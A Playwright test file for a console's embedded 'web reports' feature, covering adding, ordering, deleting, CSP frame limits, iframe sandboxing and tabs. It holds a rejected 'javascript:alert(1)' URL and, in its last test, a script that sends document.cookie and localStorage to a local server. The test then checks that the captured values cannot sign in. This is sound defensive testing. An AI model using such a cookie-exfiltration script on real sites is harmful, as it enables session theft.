import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Page } from '@playwright/test'
import { expectNoBarriers } from './barriers.ts'
import { signIn, test } from './open-fair.ts'
import { tabNames, visit } from './tab-steps.ts'

async function addReport(page: Page, name: string, url: string) {
  await page.getByRole('button', { name: '添加报表' }).click()
  const drawer = page.getByRole('dialog', { name: '添加报表' })
  await expect(drawer.getByLabel('名称')).toBeFocused()
  await drawer.getByLabel('名称').fill(name)
  await drawer.getByLabel('网址').fill(url)
  await drawer.getByRole('button', { name: '保存' }).click()
  return drawer
}

const names = (page: Page) => page.locator('.fd-report-list tbody tr td:first-child')
const menuNames = (page: Page) => page.getByRole('navigation', { name: '菜单' }).getByRole('menuitem')

test('web reports are added, ordered, switched off, deleted and taken back, and the menu follows', async ({
  fair,
  signedIn: page,
}) => {
  await page.goto(`${fair.address}set/reportList`)
  await expect(page.getByText('还没有网页报表')).toBeVisible()
  await expect(menuNames(page).filter({ hasText: '网页报表' })).toHaveCount(0)

  const drawer = await addReport(page, '看板', 'javascript:alert(1)')
  await expect(drawer.getByText('请输入 http 或 https 网址')).toBeVisible()
  await drawer.getByLabel('网址').fill('https://bi.example.com/board?fair={fairId}')
  await drawer.getByRole('button', { name: '保存' }).click()
  await expect(drawer).toBeHidden()
  await addReport(page, '库存 / Stock', 'https://stock.example.com/')
  await expect(names(page)).toHaveText(['看板', '库存 / Stock'])
  await expectNoBarriers(page, { within: ['#content'] })

  await page.getByRole('button', { name: '上移 库存 / Stock' }).click()
  await expect(names(page)).toHaveText(['库存 / Stock', '看板'])
  await menuNames(page).filter({ hasText: '网页报表' }).first().click()
  await expect(menuNames(page).filter({ hasText: /^(看板|库存 \/ Stock)$/ })).toHaveText(['库存 / Stock', '看板'])

  await page.getByRole('switch', { name: '启用 库存 / Stock' }).click()
  await expect(menuNames(page).filter({ hasText: '库存 / Stock' })).toHaveCount(0)
  const row = page.getByRole('row', { name: /看板/ })
  await expect(row.getByRole('link', { name: '打开' })).toHaveAttribute('href', 'https://bi.example.com/board?fair=1')
  await row.getByRole('button', { name: '删除' }).click()
  await expect(names(page)).toHaveText(['库存 / Stock'])
  await page.locator('.ant-message').getByRole('button', { name: '撤销' }).click()
  await expect(names(page)).toHaveText(['库存 / Stock', '看板'])
})

test('the page may embed the sites of web reports in use and no others', async ({ fair, signedIn: page }) => {
  await page.goto(`${fair.address}set/reportList`)
  await addReport(page, '另一看板', 'https://other.example.com/board')
  await expect(names(page).filter({ hasText: '另一看板' })).toBeVisible()
  const policy = (await fetch(fair.address)).headers.get('content-security-policy') ?? ''
  const frames = policy.split('; ').find((part) => part.startsWith('frame-src')) ?? ''
  expect(frames).toContain('https://other.example.com')
  expect(frames).not.toContain('https://stock.example.com')
  await page.goto(`${fair.address}report/${encodeURIComponent('另一看板')}`)
  const frame = page.locator('iframe[title="另一看板"]')
  await expect(frame).toHaveAttribute('src', 'https://other.example.com/board')
  await expect(frame).toHaveAttribute('sandbox', /^(?!.*top-navigation)/)
  await expect(page.getByRole('tab', { name: '另一看板' })).toBeVisible()
  // Their group leads to the first of them.
  await page.goto(`${fair.address}report`)
  await expect(page).toHaveURL(/\/report\/./)
})

test('two questions to one report are two tabs; a frame that moves among tabs is not loaded anew', async ({
  context,
  fair,
  signedIn: page,
}) => {
  let loads = 0
  await context.route('https://other.example.com/**', (route) => {
    loads++
    return route.fulfill({ contentType: 'text/html', body: '<title>board</title><input aria-label="note">' })
  })
  const address = `/report/${encodeURIComponent('另一看板')}`
  await page.goto(`${fair.address}report/${encodeURIComponent('另一看板')}?month=1`)
  await page.getByRole('tablist').waitFor()
  await visit(page, `${address}?month=2`, '/custom/pair')
  const frames = page.locator('iframe[title="另一看板"]')
  await expect(frames).toHaveCount(2)
  expect(loads).toBe(2)
  const tabs = page.getByRole('tab', { name: '另一看板' })
  await tabs.first().click()
  await page.frameLocator('iframe[src$="month=1"]').getByLabel('note').fill('还在')
  await tabs.first().focus()
  await page.keyboard.press('Control+Shift+ArrowRight')
  await page.keyboard.press('Control+Shift+ArrowRight')
  expect(await tabNames(page)).toEqual(['首页', '另一看板', '搭配资料', '另一看板'])
  await tabs.first().click()
  await tabs.last().click()
  await expect(page.frameLocator('iframe[src$="month=1"]').getByLabel('note')).toHaveValue('还在')
  expect(loads).toBe(2)
  await page.keyboard.press('Delete')
  await expect(frames).toHaveCount(1)
})

test('a web report on the console’s own host gets nothing to sign in with', async ({ fair, context }) => {
  const got: string[] = []
  const script = "fetch('/seen?' + encodeURIComponent(document.cookie + ' ' + JSON.stringify({ ...localStorage })))"
  const reports = createServer((request, response) => {
    got.push(`${request.headers.cookie ?? ''} ${decodeURIComponent(request.url ?? '')}`)
    response
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      .end(`<h1>看板</h1><script>${script}</script>`)
  })
  await new Promise<void>((resolve) => reports.listen(0, '127.0.0.1', resolve))
  const address = `http://127.0.0.1:${(reports.address() as AddressInfo).port}/`
  try {
    const page = await signIn(context, fair)
    await page.goto(`${fair.address}set/reportList`)
    await addReport(page, '同机看板', address)
    await expect(names(page).filter({ hasText: '同机看板' })).toBeVisible()
    await page.goto(`${fair.address}report/${encodeURIComponent('同机看板')}`)
    await expect(page.frameLocator('iframe[title="同机看板"]').getByRole('heading', { name: '看板' })).toBeVisible()
    await expect.poll(() => got.some((one) => one.includes('/seen?'))).toBe(true)
    const stolen = got.join(' ').match(/[A-Za-z0-9_-]{15,}/g) ?? []
    for (const token of [...new Set(stolen)]) {
      const answer = await fetch(`${fair.address}api/user/getSessionUser`, { headers: { token } })
      expect((await answer.json()).code).toBe(402)
    }
    expect(stolen.every((one) => one.length < 40)).toBe(true)
  } finally {
    reports.close()
  }
})
